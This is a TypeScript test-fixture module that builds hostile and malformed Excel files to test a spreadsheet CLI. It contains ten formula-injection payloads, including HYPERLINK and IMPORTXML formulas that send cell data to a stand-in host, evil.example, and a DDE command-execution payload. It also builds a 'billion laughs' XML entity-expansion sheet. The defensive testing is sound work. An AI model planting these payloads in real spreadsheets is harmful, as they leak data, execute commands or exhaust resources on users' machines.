// Hostile and awkward input files for the CLI corpus (tests/cli/hostile.test.ts), generated in the test
// run, never committed: forged ownership names, a stray far cell, a sheet past the row limit, a
// macro-enabled package, an encrypted (OLE) file, a zip that is not a workbook, merged group headers,
// injection payloads, entity expansion. Raw XML where ExcelJS would be slow or would not write the shape.
import JSZip from 'jszip';
import { toBuffer, type Build } from './workbooks';

/** A small projects table (an Excel table on "Projects") that scores in well under a second. */
export const projects: Build = (wb) => {
  const ws = wb.addWorksheet('Projects');
  ws.addTable({
    name: 'Projects',
    ref: 'A1',
    columns: ['ID', 'Project Name', 'Status', 'Cost', 'Benefit', 'Growth', 'Efficiency'].map((name) => ({
      name,
    })),
    rows: [
      ['P1', 'Claims Automation', 'Proposed', 400_000, 900_000, 4, 5],
      ['P2', 'Partner Portal', 'Approved', 650_000, 1_100_000, 5, 2],
      ['P3', 'Legacy CRM Upgrade', 'Active', 300_000, 250_000, 1, 2],
      ['P4', 'Data Lake', 'Proposed', 800_000, 700_000, 3, 3],
    ],
  });
};

export function build(...steps: Build[]): Promise<Uint8Array> {
  return toBuffer((wb) => steps.forEach((s) => s(wb)));
}

/** Edits parts of a package as raw text (a user's other tools, or a hostile generator, would). */
export async function editParts(
  data: Uint8Array,
  edits: Record<string, (xml: string | null) => string | null>,
): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(data);
  for (const [part, f] of Object.entries(edits)) {
    const file = zip.file(part);
    const next = f(file ? await file.async('string') : null);
    if (next === null) zip.remove(part);
    else zip.file(part, next);
  }
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/**
 * Failure 2: the user's own defined names that look like the add-in's old markers, one pointing at a
 * user sheet of another name (Notes), one at a user sheet that has an output sheet's name.
 */
export const forgedNames: Build = (wb) => {
  projects(wb);
  const notes = wb.addWorksheet('Notes');
  notes.getCell('A1').value = 'Board notes, do not delete';
  notes.getCell('B3').value = 42;
  const mine = wb.addWorksheet('SRO Ranking');
  mine.getCell('A1').value = 'My own ranking of the projects';
  mine.getCell('A2').value = 'P2 first, then P1';
  wb.definedNames.add('Notes!$A$1', 'SRO_Output_Summary');
  wb.definedNames.add("'SRO Ranking'!$A$1", 'SRO_Output_Ranking');
};

/** Failure 3: a normal table plus one cell at the last cell of the grid. */
export const strayFarCell: Build = (wb) => {
  projects(wb);
  wb.getWorksheet('Projects')!.getCell('XFD1048576').value = 'x';
};

/** Failure 6: group headers merged above the real header row (a plain range, as trackers have them). */
export const groupHeaders: Build = (wb) => {
  const ws = wb.addWorksheet('Tracker');
  ws.getCell('A1').value = 'Identity';
  ws.mergeCells('A1:B1');
  ws.getCell('C1').value = 'Financials';
  ws.mergeCells('C1:D1');
  ws.getCell('E1').value = 'Strategy';
  ws.mergeCells('E1:F1');
  const rows: (string | number)[][] = [
    ['ID', 'Project Name', 'Cost', 'Benefit', 'Growth', 'Efficiency'],
    ['G1', 'Route Optimiser', 200_000, 500_000, 4, 5],
    ['G2', 'Supplier Portal', 350_000, 420_000, 2, 4],
    ['G3', 'Digital Twin', 900_000, 1_300_000, 5, 3],
  ];
  rows.forEach((r, i) => r.forEach((v, j) => (ws.getCell(2 + i, 1 + j).value = v)));
};

/** Ten injection payloads (formula, DDE, prefixed, full-width, with leading whitespace) in user cells. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1,2)',
  '=IMPORTXML("http://evil.example","//a")',
  '\t=1+1',
  '\r=2+2',
  '＝1+1',
  '=1+1<f>x</f>',
];

export const injections: Build = (wb) => {
  const ws = wb.addWorksheet('Projects');
  ws.addTable({
    name: 'Payloads',
    ref: 'A1',
    columns: ['ID', 'Project Name', 'Sponsor', 'Cost', 'Benefit', 'Depends On', 'Notes'].map((name) => ({
      name,
    })),
    rows: INJECTIONS.map((p, i) => [
      `I${i + 1}`,
      p,
      INJECTIONS[(i + 3) % INJECTIONS.length]!,
      100_000 * (i + 1),
      180_000 * (i + 1),
      i === 4 ? INJECTIONS[1]! : null,
      INJECTIONS[(i + 7) % INJECTIONS.length]!,
    ]),
  });
};

const CT_MACRO = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
const CT_SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

/** Failure 5: a macro-enabled package (.xlsm): the workbook's macro content type and a VBA project part. */
export async function macroEnabled(vba: Uint8Array): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await build(projects));
  zip.file('xl/vbaProject.bin', vba);
  const types = await zip.file('[Content_Types].xml')!.async('string');
  zip.file(
    '[Content_Types].xml',
    types
      .replace(CT_SHEET, CT_MACRO)
      .replace(
        '<Default ',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
      ),
  );
  const rels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
  zip.file(
    'xl/_rels/workbook.xml.rels',
    rels.replace(
      '</Relationships>',
      '<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    ),
  );
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/** Bytes that do not repeat (a stand-in for a compiled VBA project). */
export function pseudoRandomBytes(n: number, seed = 11): Uint8Array {
  const out = new Uint8Array(n);
  let s = seed;
  for (let i = 0; i < n; i++) {
    s = (s * 1103515245 + 12345) >>> 0;
    out[i] = s >>> 24;
  }
  return out;
}

function utf16(s: string): number[] {
  return [...s].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8]);
}

/**
 * An OLE compound file (what Excel writes for a password-protected workbook, and for .xls): the header
 * signature and a directory sector naming its streams. `streams` are the directory entry names.
 */
export function compoundFile(streams: string[]): Uint8Array {
  const sector = 512;
  const out = new Uint8Array(sector * 3);
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  const view = new DataView(out.buffer);
  view.setUint16(0x18, 0x3e, true); // minor version
  view.setUint16(0x1a, 3, true); // major version 3: 512-byte sectors
  view.setUint16(0x1c, 0xfffe, true); // byte order
  view.setUint16(0x1e, 9, true); // sector shift
  view.setUint16(0x20, 6, true); // mini sector shift
  view.setUint32(0x2c, 1, true); // FAT sectors
  view.setUint32(0x30, 1, true); // first directory sector (sector 1)
  view.setUint32(0x38, 4096, true); // mini stream cutoff
  view.setUint32(0x3c, 0xfffffffe, true); // no mini FAT
  view.setUint32(0x44, 0xfffffffe, true); // no DIFAT sectors
  view.setUint32(0x4c, 0, true); // DIFAT[0]: the FAT is sector 0
  for (let i = 1; i < 109; i++) view.setUint32(0x4c + 4 * i, 0xffffffff, true);
  // Sector 0 (file offset 512) is the FAT: sector 0 is FAT, sector 1 ends the directory chain.
  view.setUint32(sector, 0xfffffffd, true);
  view.setUint32(sector + 4, 0xfffffffe, true);
  for (let i = 2; i < 128; i++) view.setUint32(sector + 4 * i, 0xffffffff, true);
  // Sector 1 (file offset 1024): directory entries of 128 bytes.
  ['Root Entry', ...streams].slice(0, 4).forEach((name, k) => {
    const at = sector * 2 + 128 * k;
    const bytes = utf16(name);
    out.set(bytes, at);
    view.setUint16(at + 0x40, bytes.length + 2, true);
    out[at + 0x42] = k === 0 ? 5 : 2; // root storage, then streams
  });
  return out;
}

/** Failure 6: what Excel saves when the user sets a password to open (Agile encryption, an OLE file). */
export const encrypted = (): Uint8Array =>
  compoundFile(['EncryptionInfo', 'EncryptedPackage', '\u0006DataSpaces']);

/** A zip package with no workbook part (a Word document renamed .xlsx). */
export async function wordDocument(): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  zip.file('word/document.xml', '<w:document xmlns:w="urn:x"><w:body/></w:document>');
  return zip.generateAsync({ type: 'uint8array' });
}

/** A zip of anything else (no content types, no workbook). */
export async function plainZip(): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file('readme.txt', 'Projects are in the other file.');
  return zip.generateAsync({ type: 'uint8array' });
}

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const NS_R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A minimal package around raw sheet XML, for shapes too large or too odd to build with ExcelJS. */
export async function rawWorkbook(sheets: { name: string; xml: string }[]): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
      `<Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/xl/workbook.xml" ContentType="${CT_SHEET}"/>` +
      sheets
        .map(
          (_, k) =>
            `<Override PartName="/xl/worksheets/sheet${k + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`,
        )
        .join('') +
      `</Types>`,
  );
  zip.file(
    '_rels/.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${NS_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  );
  zip.file(
    'xl/workbook.xml',
    `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${NS}" xmlns:r="${NS_R}"><sheets>` +
      sheets.map((s, k) => `<sheet name="${s.name}" sheetId="${k + 1}" r:id="rId${k + 1}"/>`).join('') +
      `</sheets></workbook>`,
  );
  zip.file(
    'xl/_rels/workbook.xml.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
      sheets
        .map(
          (_, k) =>
            `<Relationship Id="rId${k + 1}" Type="${NS_R}/worksheet" Target="worksheets/sheet${k + 1}.xml"/>`,
        )
        .join('') +
      `</Relationships>`,
  );
  sheets.forEach((s, k) => zip.file(`xl/worksheets/sheet${k + 1}.xml`, s.xml));
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/** Sheet XML from rows of values (inline strings and numbers). */
export function sheetXmlOf(rows: Iterable<(string | number)[]>, doctype = ''): string {
  const parts: string[] = [
    `<?xml version="1.0" encoding="UTF-8"?>${doctype}<worksheet xmlns="${NS}"><sheetData>`,
  ];
  let r = 0;
  for (const row of rows) {
    r++;
    parts.push(`<row r="${r}">`);
    row.forEach((v, c) => {
      const ref = `${String.fromCharCode(65 + c)}${r}`;
      parts.push(
        typeof v === 'number'
          ? `<c r="${ref}"><v>${v}</v></c>`
          : `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`,
      );
    });
    parts.push('</row>');
  }
  parts.push('</sheetData></worksheet>');
  return parts.join('');
}

/** A small projects sheet (as raw rows), to sit beside a sheet that is not read. */
export const projectRows: (string | number)[][] = [
  ['ID', 'Project Name', 'Cost', 'Benefit'],
  ['P1', 'Claims Automation', 400_000, 900_000],
  ['P2', 'Partner Portal', 650_000, 1_100_000],
  ['P3', 'Legacy CRM Upgrade', 300_000, 250_000],
  ['P4', 'Data Lake', 800_000, 700_000],
];

/** Failure 4: a tracker of `n` project rows (name, cost, benefit) under one header row. */
export function* trackerRows(n: number): Generator<(string | number)[]> {
  yield ['Project Name', 'Cost', 'Benefit'];
  for (let i = 1; i <= n; i++) yield [`Project ${i}`, 1000 + (i % 97), 2500 + (i % 89)];
}

/** Entity expansion ("billion laughs") in a sheet's DOCTYPE, used in a cell. */
export function entityBomb(): Promise<Uint8Array> {
  const ents = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) ents.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  const doctype = `<!DOCTYPE worksheet [${ents.join('')}]>`;
  const xml = sheetXmlOf(
    [
      ['Project Name', 'Cost'],
      ['Alpha', 100],
      ['Beta', 200],
    ],
    doctype,
  ).replace('<t>Alpha</t>', '<t>&lol9;</t>');
  return rawWorkbook([{ name: 'Projects', xml }]);
}
